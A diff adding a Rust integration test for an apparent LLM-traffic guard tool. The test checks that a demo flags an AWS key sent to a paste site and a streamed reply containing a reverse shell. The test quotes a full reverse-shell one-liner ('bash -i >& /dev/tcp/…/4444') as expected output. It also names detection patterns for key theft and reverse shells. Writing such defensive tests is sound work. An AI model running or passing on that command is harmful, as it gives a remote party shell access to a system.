@@ -434,3 +434,51 @@ fn go_stream_with_a_command_split_over_events_is_found() {
     assert_eq!(out.trim_end(), EVIL_REPLY);
     assert_stream_injection(&findings);
 }
+
+#[test]
+fn demo_shows_the_three_exchanges_and_cleans_up() {
+    let tmp = tempfile::tempdir().unwrap();
+    let scratch = tmp.path().join("tmp");
+    std::fs::create_dir(&scratch).unwrap();
+    // TMPDIR: the demo's temporary home goes there, so the test sees that it is gone afterwards.
+    let o = output(guardian(&tmp.path().join("unused-home")).env("TMPDIR", &scratch).arg("demo"));
+    let out = stdout(&o);
+    let err = String::from_utf8_lossy(&o.stderr);
+    assert_eq!(o.status.code(), Some(0), "{out}\n{err}");
+
+    // Each exchange: what the client got and how many EXFIL/INJECTION findings it added.
+    let section = |title: &str| {
+        let start = out.find(title).unwrap_or_else(|| panic!("no {title:?} in {out}"));
+        out[start..].lines().take(4).collect::<Vec<_>>().join("\n")
+    };
+    let clean = section("1. a clean chat");
+    assert!(clean.contains("client got: 200 Paris is the capital of France."), "{clean}");
+    assert!(clean.ends_with("EXFIL/INJECTION findings: 0"), "the clean chat gives no finding: {clean}");
+    let paste = section("2. a key posted to a paste site");
+    assert!(paste.contains("client got: 200 ") && paste.ends_with("findings: 1"), "{paste}");
+    let stream = section("3. a streamed reply carrying a reverse shell");
+    assert!(stream.contains("`bash -i >& /dev/tcp/203.0.113.7/4444 0>&1`"), "the whole reply: {stream}");
+    assert!(!stream.ends_with("findings: 0"), "{stream}");
+
+    // The table rows: DATE TIME SEVERITY TYPE PATTERN DIR DEST SNIPPET.
+    let rows: Vec<Vec<&str>> = out
+        .lines()
+        .map(|l| l.split_whitespace().collect::<Vec<_>>())
+        .filter(|t| t.len() >= 7 && (t[3] == "EXFIL" || t[3] == "INJECTION" || t[3] == "EGRESS"))
+        .collect();
+    let has = |ty: &str, pattern: &str, dir: &str, host: &str| {
+        rows.iter().any(|t| t[3] == ty && t[4] == pattern && t[5] == dir && t[6].starts_with(&format!("{host}:")))
+    };
+    assert!(has("EXFIL", "aws_access_key", "out", "paste.bin.test"), "{out}");
+    assert!(has("INJECTION", "reverse_shell", "in", "api.llm.test"), "{out}");
+    assert!(rows.iter().all(|t| t[3] != "EXFIL" || t[6].starts_with("paste.bin.test:")), "{out}");
+    assert!(rows.iter().all(|t| t[3] != "EGRESS"), "loopback EGRESS findings are counted, not shown: {out}");
+    assert!(out.contains("EGRESS private_network finding(s) for the fake upstream on 127.0.0.1 not shown"), "{out}");
+
+    assert!(!out.contains("AKIA") && !err.contains("AKIA"), "no key value in the output: {out}");
+    let removed = out.lines().find_map(|l| l.strip_prefix("Removed the temporary home ")).expect("the cleanup line");
+    let removed = Path::new(removed.trim_end_matches('.'));
+    assert!(removed.starts_with(&scratch) && !removed.exists(), "{removed:?}");
+    assert_eq!(std::fs::read_dir(&scratch).unwrap().count(), 0, "nothing left behind in TMPDIR");
+    assert!(!tmp.path().join("unused-home").exists(), "the operator's home is never touched");
+}
